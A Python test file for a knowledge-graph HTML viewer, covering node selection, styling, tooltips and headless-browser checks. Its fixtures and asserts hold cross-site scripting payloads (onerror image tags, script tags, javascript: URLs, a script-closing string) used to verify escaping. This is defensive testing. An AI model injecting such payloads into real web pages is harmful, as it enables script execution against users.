"""The graph viewer: subgraph selection and escaping (fast), and the page in real headless Chromium (`browser`)."""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import re
import struct
import zlib
from pathlib import Path

import networkx as nx
import pytest

import kg
from kg.api import open_store
from kg.graph import entity_attrs, entity_key, paper_key
from kg.lookup import graph_paper_node
from kg.model.errors import KGError, NotFoundError
from kg.model.schema import Rel
from kg.store import LocalStore
from kg.viz import (
    DEFAULT_VIEW,
    EDGE_STYLES,
    NODE_STYLES,
    ViewOptions,
    VizError,
    VizReport,
    candidates,
    cap_nodes,
    ego_nodes,
    excerpt,
    parse_types,
    render,
    select,
    to_pyvis,
    tooltip_lines,
)

ROOT = Path(__file__).parent.parent
SEEDS = ROOT / "data" / "seeds"
DATA = Path(__file__).parent / "data"
ARTIFACTS = Path(__file__).parent / "artifacts"
XSS = "<img src=x onerror=alert(1)>"
CHROMIUM = os.environ.get("KG_CHROMIUM", "/usr/bin/chromium")


# ---------------------------------------------------------------- a small hand-made graph


def _paper(g, pid, title, abstract="", sources=("listing.txt:1",)):
    g.add_node(paper_key(pid), __labels__={"Paper"}, id=pid, title=title, abstract=abstract, sources=list(sources))


def _entity(g, eid, name, etype, aliases=()):
    g.add_node(entity_key(eid), **entity_attrs(eid, name, etype, source="catalog", aliases=aliases))


def _rel(g, u, v, rel, **attrs):
    g.add_edge(u, v, key=rel, __labels__={rel}, **attrs)


@pytest.fixture
def small() -> nx.MultiDiGraph:
    """6 papers (p6 links to nothing), 7 entities (Ampere: a catalog parent no paper mentions), 1 CITES."""
    g = nx.MultiDiGraph()
    _paper(
        g,
        "p1",
        XSS,
        "We fine-tune a Transformer with LoRA. <script>alert(2)</script> & more " * 20,
        sources=[f"f{i}.txt:{i}" for i in range(1, 6)],
    )
    _paper(g, "p2", "LoRA: Low-Rank Adaptation of Large Language Models", "LoRA adapts Transformers.")
    _paper(g, "p3", "Training Transformers on A100 GPUs", "A100.")
    _paper(g, "p4", "Vision Transformers on ImageNet", "ViT on ImageNet.")
    _paper(g, "p5", "A PyTorch Study of Transformers on ImageNet", "PyTorch.")
    _paper(g, "p6", "A Paper About Nothing", "No entity here.")
    _entity(g, "transformer", "Transformer", "Model", aliases=["Transformers"])
    _entity(g, "lora", "LoRA", "Method", aliases=["low-rank adaptation", "<b>LoRA</b>"])
    _entity(g, "a100", "A100", "Hardware", aliases=["A100 GPU"])
    _entity(g, "ampere", "Ampere", "Hardware")
    _entity(g, "imagenet", "ImageNet", "Dataset")
    _entity(g, "pytorch", "PyTorch", "Framework")
    _entity(g, "vit", "ViT", "Model")
    P, E = paper_key, entity_key
    for p in ("p1", "p2", "p3", "p4", "p5"):
        _rel(g, P(p), E("transformer"), Rel.MENTIONS.value, count=1, surfaces=["Transformer"])
    for p, e in (
        ("p1", "lora"),
        ("p2", "lora"),
        ("p3", "a100"),
        ("p4", "imagenet"),
        ("p5", "imagenet"),
        ("p5", "pytorch"),
        ("p4", "vit"),
    ):
        _rel(g, P(p), E(e), Rel.MENTIONS.value, count=2, surfaces=[g.nodes[E(e)]["name"]])
    _rel(g, P("p2"), E("lora"), Rel.INTRODUCES.value)
    _rel(g, P("p1"), P("p2"), Rel.CITES.value, via=["LoRA"])
    _rel(g, E("vit"), E("transformer"), Rel.VARIANT_OF.value)
    _rel(g, E("a100"), E("ampere"), Rel.VARIANT_OF.value)
    return g


# ---------------------------------------------------------------- selection


def test_parse_types_any_case_and_comma_lists():
    assert parse_types(None) is None and parse_types([]) is None
    assert parse_types(["hardware", "FRAMEWORK,model"]) == {"Hardware", "Framework", "Model"}
    assert parse_types("Dataset") == {"Dataset"}


@pytest.mark.parametrize("bad", ["gpu", "Papers", ""])
def test_parse_types_unknown_names_the_type_and_the_choices(bad):
    if not bad:
        assert parse_types([bad]) is None
        return
    with pytest.raises(VizError) as exc:
        parse_types([bad])
    msg = str(exc.value)
    assert repr(bad) in msg and "Method, Model, Dataset, Hardware, Framework" in msg and "\n" not in msg


def test_paper_is_not_an_entity_type():
    with pytest.raises(VizError, match="papers are always shown"):
        parse_types(["Paper"])


def test_whole_graph_when_it_fits(small):
    sel = select(small)
    assert set(sel.nodes) == set(small.nodes) and sel.cut is None and sel.focus is None
    assert sel.view == "whole graph"


def test_cap_keeps_most_connected_entities_with_all_their_papers(small):
    for cap in range(1, small.number_of_nodes()):
        sel = select(small, ViewOptions(max_nodes=cap))
        kept = set(sel.nodes)
        assert 1 <= len(kept) <= cap and len(sel.nodes) == len(kept)
        assert sel.cut and f"{small.number_of_nodes()} nodes" in sel.cut and "--max-nodes" in sel.cut
        entities = {n for n in kept if n.startswith("entity:")}
        if cap >= 6:  # room for the Transformer and its five papers
            assert entity_key("transformer") in kept
            for e in entities:  # an entity comes with every paper it links to
                assert {p for p in small.predecessors(e) if p.startswith("paper:")} <= kept
    sel = select(small, ViewOptions(max_nodes=6))
    assert set(sel.nodes) == {entity_key("transformer")} | {paper_key(f"p{i}") for i in range(1, 6)}
    assert "1 most connected entity and their 5 papers" in sel.cut and "7 left out" in sel.cut


def test_cap_nodes_is_deterministic(small):
    assert cap_nodes(small, set(small.nodes), 8) == cap_nodes(small, set(small.nodes), 8)
    kept, n_entities, n_papers = cap_nodes(small, set(small.nodes), 8)
    assert len(kept) == 8 and n_entities + n_papers == 8 and paper_key("p6") not in kept


def test_type_and_mention_filters(small):
    assert candidates(small, {"Hardware"}) == {entity_key("a100"), entity_key("ampere"), paper_key("p3")}
    assert candidates(small, None, 2) == (
        {entity_key(e) for e in ("transformer", "lora", "imagenet")} | {paper_key(f"p{i}") for i in range(1, 6)}
    )
    assert candidates(small) == set(small.nodes)
    sel = select(small, ViewOptions(types=["hardware"]))
    assert "types Hardware" in sel.view
    with pytest.raises(VizError, match="nothing to show.*--min-mentions"):
        select(small, ViewOptions(min_mentions=50))


def test_ego_view_around_an_entity(small):
    assert set(ego_nodes(small, entity_key("lora"), 1)) == {entity_key("lora"), paper_key("p1"), paper_key("p2")}
    sel = select(small, ViewOptions(entity="LoRA", hops=2))
    assert sel.focus == entity_key("lora") and sel.nodes[0] == entity_key("lora")
    assert set(sel.nodes) == {entity_key("lora"), paper_key("p1"), paper_key("p2"), entity_key("transformer")}
    assert sel.hops[entity_key("transformer")] == 2 and "within 2 hops" in sel.view
    assert set(select(small, ViewOptions(entity="lora", hops=0)).nodes) == {entity_key("lora")}
    # the type filter stops the walk at other types (the focus itself always shows)
    assert set(select(small, ViewOptions(entity="lora", hops=3, types=["Method"])).nodes) == {
        entity_key("lora"),
        paper_key("p1"),
        paper_key("p2"),
    }


def test_ego_entity_resolved_like_lookup_with_did_you_mean(small):
    assert select(small, ViewOptions(entity="low rank adaptation")).focus == entity_key("lora")
    assert select(small, ViewOptions(entity="a100 gpus")).focus == entity_key("a100")
    with pytest.raises(NotFoundError) as exc:
        select(small, ViewOptions(entity="Imagenett-XXL"))
    assert "did you mean" in str(exc.value) and "ImageNet" in exc.value.suggestions


def test_ego_view_cap_keeps_the_nearest(small):
    sel = select(small, ViewOptions(entity="Transformer", hops=3, max_nodes=4))
    assert sel.nodes[0] == entity_key("transformer") and len(sel.nodes) == 4
    assert all(sel.hops[n] <= 1 for n in sel.nodes)
    assert sel.cut and "showing the 4 nearest" in sel.cut


def test_paper_resolution(small):
    assert graph_paper_node(small, "p3") == paper_key("p3")
    assert graph_paper_node(small, "lora: low-rank ADAPTATION of large language models") == paper_key("p2")
    assert graph_paper_node(small, "PyTorch Study") == paper_key("p5")
    assert graph_paper_node(small, XSS) == paper_key("p1")
    with pytest.raises(NotFoundError, match="2 papers match 'on ImageNet'.*give more of the title"):
        graph_paper_node(small, "on ImageNet")
    with pytest.raises(NotFoundError, match="did you mean: A PyTorch Study"):
        graph_paper_node(small, "pytorch studdy of transformrs")
    sel = select(small, ViewOptions(paper="Vision Transformers on ImageNet"))
    assert set(sel.nodes) == {paper_key("p4"), entity_key("transformer"), entity_key("imagenet"), entity_key("vit")}


@pytest.mark.parametrize(
    "kwargs, match",
    [
        ({"entity": "lora", "paper": "p1"}, "give one of --entity, --paper or --query, not more"),
        ({"hops": -1}, "--hops must be 0 or more"),
        ({"max_nodes": 0}, "--max-nodes must be at least 1"),
        ({"min_mentions": -2}, "--min-mentions must be 0 or more"),
    ],
)
def test_bad_options_are_one_line_errors(small, kwargs, match):
    with pytest.raises(VizError, match=match):
        select(small, ViewOptions(**kwargs))


def test_empty_graph_says_how_to_build_one():
    with pytest.raises(VizError, match="graph is empty.*kg build"):
        select(nx.MultiDiGraph())


# ---------------------------------------------------------------- styling, tooltips, escaping


def test_every_type_has_its_own_colour_and_shape():
    assert set(NODE_STYLES) == {"Paper", "Method", "Model", "Dataset", "Hardware", "Framework"}
    assert len({s["color"] for s in NODE_STYLES.values()}) == 6 and len({s["shape"] for s in NODE_STYLES.values()}) == 6
    assert set(EDGE_STYLES) == {r.value for r in Rel}
    assert len({(s["color"], str(s["dashes"])) for s in EDGE_STYLES.values()}) == 4


def test_tooltips_are_plain_text(small):
    lines = tooltip_lines(small, paper_key("p1"))
    assert lines[0] == XSS and lines[1] == "Paper"
    assert lines[2].endswith("\u2026") and len(lines[2]) <= 281 and "<script>" in lines[2]
    assert lines[3] == "sources: f1.txt:1, f2.txt:2, f3.txt:3 (+2 more)"
    lines = tooltip_lines(small, entity_key("lora"))
    assert lines[:2] == ["LoRA", "Method \u00b7 mentioned by 2 papers"]
    assert lines[2] == "aliases: <b>LoRA</b>, low-rank adaptation"
    assert excerpt("short") == "short" and excerpt("a b " * 100, 10).endswith("\u2026")


def test_to_pyvis_styles_sizes_and_counts(small):
    net = to_pyvis(small)
    assert net.num_nodes() == small.number_of_nodes() and net.num_edges() == small.number_of_edges()
    nodes = {n["id"]: n for n in net.nodes}
    assert nodes[entity_key("transformer")]["shape"] == NODE_STYLES["Model"]["shape"]
    assert nodes[paper_key("p1")]["color"]["background"] == NODE_STYLES["Paper"]["color"]
    assert nodes[entity_key("transformer")]["value"] > nodes[entity_key("pytorch")]["value"]  # size by degree
    assert nodes[entity_key("transformer")]["degree"] == 6
    rels = {(e["from"], e["to"], e["rel"]): e for e in net.edges}
    cites = rels[(paper_key("p1"), paper_key("p2"), "CITES")]
    assert (
        cites["dashes"] == EDGE_STYLES["CITES"]["dashes"] and cites["color"]["color"] == EDGE_STYLES["CITES"]["color"]
    )
    assert net.kg_counts["nodes"]["Paper"] == 6 and net.kg_counts["edges"]["MENTIONS"] == 12
    assert net.options["physics"]["stabilization"]["enabled"] is True


def test_store_to_pyvis_delegates(small, tmp_path):
    LocalStore(small, tmp_path / "s.jsonl.gz").save()
    net = open_store(tmp_path / "s.jsonl.gz").to_pyvis(ViewOptions(entity="LoRA"))
    assert net.num_nodes() == 3 and net.kg_selection.focus == entity_key("lora")


def _html_checks(html: str) -> None:
    assert XSS not in html and "<script>alert(2)" not in html and "<b>LoRA</b>" not in html
    assert "\\u003cimg src=x onerror=alert(1)\\u003e" in html  # the title, as JSON text data
    assert not re.search(r"<(script|link|img|iframe)[^>]*\s(src|href)=", html, re.I)  # nothing loaded from anywhere
    assert "cdnjs" not in html and "jsdelivr" not in html and "unpkg" not in html
    assert "vis-network" in html and "vis.Network" in html and html.count("</script>") == 2
    assert 'id="kg-legend"' in html and "stabilizationIterationsDone" in html
    assert 'id="kg-search"' in html and 'id="kg-details"' in html and "window.kgDetails = {" in html


def test_render_writes_a_self_contained_escaped_page(small, tmp_path):
    out = tmp_path / "graph.html"
    report = render(small, out)
    assert isinstance(report, VizReport) and out.stat().st_size == report.bytes > 400_000  # vis-network inlined
    assert (report.nodes, report.edges) == (13, small.number_of_edges())
    assert report.node_types["Paper"] == 6 and report.edge_types["CITES"] == 1
    html = out.read_text(encoding="utf-8")
    _html_checks(html)


def test_render_ego_view_of_the_xss_paper_escapes_the_heading(small, tmp_path):
    out = tmp_path / "ego.html"
    report = render(small, out, ViewOptions(paper=XSS))
    html = out.read_text(encoding="utf-8")
    _html_checks(html)
    assert "paper &#39;&lt;img src=x onerror=alert(1)&gt;&#39; and its neighbourhood" in html
    assert report.focus == paper_key("p1") and "its neighbourhood within 1 hop" in report.summary()


def test_pyvis_write_html_gives_the_same_offline_page(small, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    net = to_pyvis(small, ViewOptions(max_nodes=6))
    net.write_html("net.html")
    html = (tmp_path / "net.html").read_text(encoding="utf-8")
    _html_checks(html)
    assert not (tmp_path / "lib").exists()


@pytest.mark.parametrize(
    "target, match",
    [
        ("missing/graph.html", "cannot write .*missing/graph.html: directory .*missing does not exist .*-o"),
        (".", "cannot write .*: it is a directory"),
    ],
)
def test_unwritable_output_is_a_one_line_error(small, tmp_path, monkeypatch, target, match):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(VizError, match=match) as exc:
        render(small, target)
    assert isinstance(exc.value, KGError) and "\n" not in str(exc.value)


def test_render_errors_before_writing(small, tmp_path):
    out = tmp_path / "graph.html"
    with pytest.raises(VizError):
        render(small, out, ViewOptions(types=["GPU"]))
    assert not out.exists()


def test_cli_viz(small, tmp_path):
    from click.testing import CliRunner

    from kg.cli import cli

    store = tmp_path / "s.jsonl.gz"
    LocalStore(small, store).save()
    runner = CliRunner()
    out = tmp_path / "g.html"
    r = runner.invoke(cli, ["viz", "--store", str(store), "-o", str(out), "--entity", "lora", "--hops", "2"])
    assert r.exit_code == 0, r.output
    assert "4 nodes" in r.output and out.exists()
    r = runner.invoke(cli, ["viz", "--store", str(store), "-o", str(out), "--entity", "Imagenett-XXL"])
    assert r.exit_code == 1 and "did you mean" in r.output and "Traceback" not in r.output
    r = runner.invoke(cli, ["viz", "--store", str(store), "-o", str(out), "--type", "GPU"])
    assert r.exit_code == 1 and "unknown entity type 'GPU'" in r.output
    r = runner.invoke(cli, ["viz", "--store", str(store), "-o", str(tmp_path / "nope" / "g.html")])
    assert r.exit_code == 1 and "does not exist" in r.output
    r = runner.invoke(cli, ["viz", "--store", str(store), "-o", str(out), "--max-nodes", "6"])
    assert r.exit_code == 0 and "left out" in r.output


# ---------------------------------------------------------------- in a real browser


def _browser_or_skip():
    """Playwright driving Debian's Chromium; skipped without them, except under CI where that is a failure."""
    problem = None
    try:
        from playwright.sync_api import sync_playwright  # noqa: F401
    except ImportError as exc:
        problem = f"the playwright package is not installed ({exc}); pip install -e '.[test]'"
    if problem is None and not (os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)):
        problem = f"Chromium not found at {CHROMIUM}; apt-get install -y chromium chromium-driver"
    if problem:
        if os.environ.get("CI"):
            pytest.fail(f"browser tests cannot run under CI: {problem}", pytrace=False)
        pytest.skip(problem)


class Page:
    """One page in a fresh headless Chromium profile with the network cut off; records what went wrong."""

    def __init__(self, context, page):
        self.context, self.page = context, page
        self.console_errors: list[str] = []
        self.dialogs: list[str] = []
        self.blocked: list[str] = []

    def wait_stable(self, timeout_ms: int = 120_000) -> dict:
        self.page.wait_for_function("() => window.kgViz && window.kgViz.stabilized === true", timeout=timeout_ms)
        # the last layout step is drawn on the next animation frame: wait for two before reading the canvas
        self.page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
        return self.page.evaluate("""() => {
            const v = window.kgViz, net = v.network;
            const canvas = document.querySelector('#mynetwork canvas');
            const ctx = canvas.getContext('2d');
            const px = ctx.getImageData(0, 0, canvas.width, canvas.height).data;
            let painted = 0;
            for (let i = 3; i < px.length; i += 4) { if (px[i] > 0) painted++; }
            return {
                dataset_nodes: v.nodes.length, dataset_edges: v.edges.length,
                drawn_nodes: net.body.nodeIndices.length, drawn_edges: net.body.edgeIndices.length,
                positions: Object.keys(net.getPositions()).length,
                physics_on: net.physics.physicsEnabled, stabilize_ms: v.stabilizeMs, iterations: v.iterations,
                canvas: [canvas.width, canvas.height], painted: painted,
                legend_nodes: document.querySelectorAll('#kg-legend .kg-legend-node').length,
                legend_edges: document.querySelectorAll('#kg-legend .kg-legend-edge').length,
                legend_visible: !!document.getElementById('kg-legend').offsetParent,
                alerts: window.__kgAlerts.length,
                imgs: document.querySelectorAll('img').length,
                scripts: document.querySelectorAll('script').length,
            };
        }""")

    def node_point(self, node_id: str) -> tuple[float, float]:
        """Where a node is drawn, in page coordinates (for the mouse)."""
        x, y = self.page.evaluate(
            """(id) => {
            const net = window.kgViz.network;
            const p = net.canvasToDOM(net.getPositions([id])[id]);
            const r = document.getElementById('mynetwork').getBoundingClientRect();
            return [r.left + p.x, r.top + p.y];
        }""",
            node_id,
        )
        return x, y

    def hover_node(self, node_id: str) -> str:
        """Move the mouse onto a node and return the tooltip's text once it shows."""
        x, y = self.node_point(node_id)
        self.page.mouse.move(x - 30, y - 30)
        self.page.mouse.move(x, y, steps=8)
        tip = self.page.locator("div.vis-tooltip")
        tip.wait_for(state="visible", timeout=15_000)
        return tip.inner_text()


@pytest.fixture
def browser(tmp_path):
    _browser_or_skip()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            str(tmp_path / "chromium-profile"),  # a fresh --user-data-dir
            executable_path=CHROMIUM,
            headless=True,
            offline=True,
            viewport={"width": 1400, "height": 900},
            args=["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
        )
        opened: list[Page] = []

        def open_page(path: Path) -> Page:
            page = context.new_page()
            rec = Page(context, page)

            def block(route):  # only the page file itself may load: everything else is refused
                if route.request.url.startswith("file://"):
                    route.continue_()
                else:
                    rec.blocked.append(route.request.url)
                    route.abort()

            page.route("**/*", block)
            page.add_init_script("""window.__kgAlerts = [];
                for (const f of ['alert', 'confirm', 'prompt', 'print']) {
                    window[f] = function (m) { window.__kgAlerts.push(f + ':' + m); };
                }""")
            page.on("console", lambda m: rec.console_errors.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: rec.console_errors.append(f"pageerror: {e}"))
            page.on("dialog", lambda d: (rec.dialogs.append(d.message), d.dismiss()))
            page.on("requestfailed", lambda r: rec.blocked.append(r.url) if not r.url.startswith("file://") else None)
            page.goto(path.resolve().as_uri())
            opened.append(rec)
            return rec

        try:
            yield open_page
        finally:
            context.close()


def _screenshot(page: Page, name: str) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / name
    page.page.screenshot(path=str(path))
    assert path.stat().st_size > 10_000
    return path


def _record(name: str, facts: dict) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / "viz_metrics.json"
    data = json.loads(path.read_text()) if path.exists() else {}
    data[name] = facts
    path.write_text(json.dumps(data, indent=2))


@pytest.fixture(scope="module")
def seeds_graph(sample_store):
    return open_store(sample_store).graph


@pytest.fixture(scope="module")
def xss_graph(tmp_path_factory):
    path = tmp_path_factory.mktemp("viz") / "xss.jsonl.gz"
    kg.build([DATA / "viz_xss.jsonl"], store=path)
    return open_store(path).graph


def _assert_clean(page: Page, facts: dict, nodes: int, edges: int) -> None:
    assert page.console_errors == [], page.console_errors
    assert page.blocked == [], f"the page tried the network: {page.blocked}"
    assert page.dialogs == [] and facts["alerts"] == 0
    assert facts["dataset_nodes"] == facts["drawn_nodes"] == facts["positions"] == nodes
    assert facts["dataset_edges"] == facts["drawn_edges"] == edges
    assert facts["physics_on"] is False  # stabilised, then frozen
    assert facts["legend_visible"] and facts["legend_nodes"] == 6 and facts["legend_edges"] == 4
    assert facts["canvas"][0] > 500 and facts["canvas"][1] > 300 and facts["painted"] > 2_000
    assert facts["imgs"] == 0 and facts["scripts"] == 2


@pytest.mark.browser
def test_browser_whole_sample_graph(browser, seeds_graph, tmp_path):
    out = tmp_path / "graph.html"
    report = render(seeds_graph, out)
    assert report.nodes == 500 and report.graph_nodes > 1500 and report.cut
    page = browser(out)
    facts = page.wait_stable()
    _assert_clean(page, facts, report.nodes, report.edges)
    assert page.page.locator("#kg-cut").inner_text().startswith(f"The graph has {report.graph_nodes} nodes")
    legend = page.page.locator("#kg-legend").inner_text()
    for kind, n in report.node_types.items():
        assert f"{kind} ({n})" in legend
    for rel, n in report.edge_types.items():
        assert f"{rel} ({n})" in legend
    top = max(
        (n for n in seeds_graph if n.startswith("entity:")),
        key=lambda n: sum(1 for _, _, k in seeds_graph.in_edges(n, keys=True) if k == "MENTIONS"),
    )
    tip = page.hover_node(top)
    assert tip.startswith(seeds_graph.nodes[top]["name"]) and "mentioned by" in tip
    shot = _screenshot(page, "viz_whole.png")
    _record(
        "whole",
        {
            "nodes": facts["drawn_nodes"],
            "edges": facts["drawn_edges"],
            "stabilize_ms": facts["stabilize_ms"],
            "iterations": facts["iterations"],
            "screenshot": shot.name,
        },
    )


@pytest.mark.browser
def test_browser_ego_view(browser, seeds_graph, tmp_path):
    out = tmp_path / "lora.html"
    report = render(seeds_graph, out, ViewOptions(entity="lora", hops=2))
    page = browser(out)
    facts = page.wait_stable()
    _assert_clean(page, facts, report.nodes, report.edges)
    assert page.page.evaluate("(id) => window.kgViz.nodes.get(id).label", report.focus) == "LoRA"
    assert "Method 'LoRA' and its neighbourhood within 2 hops" in page.page.locator("#kg-view").inner_text()
    _screenshot(page, "viz_ego_lora.png")
    _record(
        "ego_lora_2_hops",
        {
            "nodes": facts["drawn_nodes"],
            "edges": facts["drawn_edges"],
            "stabilize_ms": facts["stabilize_ms"],
            "iterations": facts["iterations"],
        },
    )


@pytest.mark.browser
def test_browser_xss_title_shows_as_text_and_runs_no_script(browser, xss_graph, tmp_path):
    out = tmp_path / "xss.html"
    report = render(xss_graph, out, ViewOptions(paper=XSS, hops=2))
    page = browser(out)
    facts = page.wait_stable()
    _assert_clean(page, facts, report.nodes, report.edges)
    focus = report.focus
    assert page.page.evaluate("(id) => window.kgViz.nodes.get(id).label", focus) == XSS
    assert XSS in page.page.locator("#kg-view").inner_text()  # the heading shows it as text
    other = next(n for n in xss_graph if xss_graph.nodes[n].get("title", "").startswith("Scaling <b>"))
    assert "<b>Mixture-of-Experts</b>" in page.hover_node(other)
    page.page.mouse.move(5, 5)
    tip = page.hover_node(focus)
    assert tip.splitlines()[0] == XSS and "<script>alert(2)</script>" in tip
    assert page.page.evaluate("() => document.querySelector('div.vis-tooltip').querySelectorAll('*').length") > 0
    assert (
        page.page.evaluate(
            "() => document.querySelectorAll('div.vis-tooltip img, div.vis-tooltip script, div.vis-tooltip b').length"
        )
        == 0
    )
    _screenshot(page, "viz_xss_tooltip.png")
    after = page.page.evaluate("() => [window.__kgAlerts.length, document.querySelectorAll('img').length]")
    assert after == [0, 0] and page.dialogs == [] and page.console_errors == []


@pytest.mark.browser
def test_browser_unfiltered_sample_graph_settles(browser, seeds_graph, tmp_path):
    """All 1,592 nodes (what users said took minutes): stabilises within the iteration budget, then freezes."""
    out = tmp_path / "all.html"
    report = render(seeds_graph, out, ViewOptions(max_nodes=5000))
    assert report.cut is None and report.nodes == seeds_graph.number_of_nodes()
    page = browser(out)
    facts = page.wait_stable(timeout_ms=240_000)
    _assert_clean(page, facts, report.nodes, report.edges)
    _record(
        "all",
        {
            "nodes": facts["drawn_nodes"],
            "edges": facts["drawn_edges"],
            "stabilize_ms": facts["stabilize_ms"],
            "iterations": facts["iterations"],
        },
    )


# ---------------------------------------------------------------- the viewer: search, toggles, focus, details


def test_highlight_marks_whole_word_surfaces_longest_first():
    from kg.viz.details import highlight

    runs = highlight(
        "LoRA-style lora on A100 GPUs, not A1000.", {"LoRA": "e:lora", "A100 GPUs": "e:a100", "A100": "e:x"}
    )
    assert "".join(r[0] for r in runs) == "LoRA-style lora on A100 GPUs, not A1000."
    assert [r for r in runs if r[1]] == [["LoRA", "e:lora"], ["lora", "e:lora"], ["A100 GPUs", "e:a100"]]
    assert highlight("", {"x": "y"}) == [] and highlight("plain", {}) == [["plain", None]]


def test_page_details_name_only_drawn_nodes(small):
    from kg.viz.details import page_details

    drawn = [n for n in small if n != entity_key("imagenet")]
    d = page_details(small, drawn)
    assert set(d) == set(drawn)
    p4 = d[paper_key("p4")]
    assert p4["mentions"] == [entity_key("transformer"), entity_key("vit")]  # ImageNet is not drawn
    assert all(run[1] != entity_key("imagenet") for run in p4["abstract"])
    lora = d[entity_key("lora")]
    assert lora["introduced_by"] == [paper_key("p2")] and lora["papers"] == [paper_key("p1"), paper_key("p2")]
    assert lora["co_mentioned"] == [[entity_key("transformer"), 2]] and lora["mention_count"] == 2
    transformer = d[entity_key("transformer")]
    assert len(transformer["papers"]) == 5 and transformer["papers_more"] == 0 and lora["papers_more"] == 0
    assert d[entity_key("vit")]["family"] == [entity_key("transformer")]
    assert d[paper_key("p1")]["cites"] == [paper_key("p2")] and d[paper_key("p2")]["cited_by"] == [paper_key("p1")]
    assert d[paper_key("p1")]["name"] == XSS  # kept verbatim: the page sets it as text
    small.nodes[paper_key("p2")]["url"] = "javascript:alert(1)"
    small.nodes[paper_key("p3")].update(url="JAVASCRIPT:alert(1)", arxiv_id="2106.09685")
    small.nodes[paper_key("p4")]["url"] = "https://example.org/p4"
    d = page_details(small, small.nodes)
    assert d[paper_key("p2")]["url"] == ""  # a link only to http(s)
    assert d[paper_key("p3")]["url"] == "https://arxiv.org/abs/2106.09685"
    assert d[paper_key("p4")]["url"] == "https://example.org/p4"


def test_details_json_cannot_close_the_script(small, tmp_path):
    small.nodes[paper_key("p3")]["abstract"] = "A100 </script><script>alert(3)</script> <!-- x"
    out = tmp_path / "g.html"
    render(small, out)
    html = out.read_text(encoding="utf-8")
    _html_checks(html)
    assert "alert(3)" in html and "<script>alert(3)" not in html and "<!--" not in html.split("kgDetails")[1]


@pytest.fixture(scope="module")
def viewer_graph(tmp_path_factory):
    path = tmp_path_factory.mktemp("viz") / "viewer.jsonl.gz"
    kg.build([DATA / "viz_viewer.jsonl"], store=path)
    return open_store(path).graph


def _viewer_page(browser, graph, tmp_path, view: ViewOptions = DEFAULT_VIEW) -> tuple[Page, VizReport]:
    out = tmp_path / "viewer.html"
    report = render(graph, out, view)
    page = browser(out)
    facts = page.wait_stable()
    _assert_clean(page, facts, report.nodes, report.edges)
    page.page.wait_for_function("() => window.kgViz.viewerReady === true")
    return page, report


def _state(page: Page) -> dict:
    return page.page.evaluate("""() => {
        const v = window.kgViz, net = v.network;
        const panel = document.getElementById('kg-details');
        return {
            focused: v.focused, selected: net.getSelectedNodes(), faded: [...v.faded].sort(),
            opacity: Object.fromEntries(v.nodes.getIds().map(id => [id, net.body.nodes[id].options.opacity ?? 1])),
            drawn: [...net.body.nodeIndices].sort(), drawn_edges: net.body.edgeIndices.length,
            hidden: v.nodes.get().filter(n => n.hidden).map(n => n.id).sort(),
            panel_node: panel.getAttribute('data-node'), panel: panel.innerText,
            panel_title: (panel.querySelector('h2') || {}).textContent || null,
            panel_kind: (panel.querySelector('.kg-kind') || {}).textContent || null,
            hits: [...document.querySelectorAll('#kg-hits .kg-hit[data-node]')].map(h => h.getAttribute('data-node')),
            legend: document.getElementById('kg-legend').innerText,
        };
    }""")


def _click_node(page: Page, node_id: str, *, double: bool = False) -> None:
    x, y = page.node_point(node_id)
    if double:
        page.page.mouse.dblclick(x, y)
    else:
        page.page.mouse.click(x, y)


def _near(g: nx.MultiDiGraph, node: str) -> set[str]:
    return {node} | set(g.successors(node)) | set(g.predecessors(node))


def _no_trouble(page: Page) -> None:
    assert page.console_errors == [], page.console_errors
    assert page.blocked == [], f"the page tried the network: {page.blocked}"
    assert page.dialogs == [] and page.page.evaluate("() => window.__kgAlerts.length") == 0


@pytest.mark.browser
def test_browser_search_type_ahead_accents_case_and_aliases(browser, viewer_graph, tmp_path):
    page, _ = _viewer_page(browser, viewer_graph, tmp_path)
    search = page.page.locator("#kg-search")
    paper = paper_key("2402.00001")
    search.click()
    page.page.keyboard.type("zurich")  # the title says Zürich
    assert _state(page)["hits"] == [paper]
    assert page.page.locator("#kg-hits").is_visible()
    page.page.keyboard.press("Enter")
    s = _state(page)
    assert s["focused"] == paper and s["selected"] == [paper] and s["panel_node"] == paper
    assert s["panel_title"] == "Réglage fin à Zürich: LoRA for LLaMA"
    assert not page.page.locator("#kg-hits").is_visible()
    # centred: the node sits in the middle of the canvas
    centre = page.page.evaluate(
        """(id) => {
        const net = window.kgViz.network, p = net.canvasToDOM(net.getPositions([id])[id]);
        const c = document.querySelector('#mynetwork canvas');
        return [p.x - c.clientWidth / 2, p.y - c.clientHeight / 2];
    }""",
        paper,
    )
    assert abs(centre[0]) < 5 and abs(centre[1]) < 5, centre
    # an alias, in another case; the first hit is chosen with a click
    lora = viewer_graph.nodes[entity_key("lora")]
    alias = next(a for a in lora["aliases"] if a.lower() != "lora")
    search.fill("")
    search.click()
    page.page.keyboard.type(alias.upper())
    assert _state(page)["hits"][0] == entity_key("lora")
    page.page.locator("#kg-hits .kg-hit").first.click()
    s = _state(page)
    assert s["focused"] == entity_key("lora") and s["panel_title"] == "LoRA"
    search.fill("")
    search.click()
    page.page.keyboard.type("ÉLLÀMA")  # no such name, accents or not
    assert _state(page)["hits"] == [] and page.page.locator("#kg-hits").inner_text() == "no match"
    search.fill("")
    search.click()
    page.page.keyboard.type("llAma")
    assert _state(page)["hits"][0] == entity_key("llama")
    assert set(_state(page)["hits"][1:]) == {paper, paper_key("2402.00003")}  # titles naming LLaMA come after
    page.page.keyboard.press("ArrowDown")
    second = _state(page)["hits"][1]
    assert page.page.locator("#kg-hits .kg-hit[aria-selected=true]").get_attribute("data-node") == second
    page.page.keyboard.press("Enter")
    assert _state(page)["focused"] == second
    _no_trouble(page)


@pytest.mark.browser
def test_browser_type_toggles_hide_nodes_and_update_counts(browser, viewer_graph, tmp_path):
    page, report = _viewer_page(browser, viewer_graph, tmp_path)
    g = viewer_graph
    hardware = {n for n, d in g.nodes(data=True) if d.get("type") == "Hardware"}
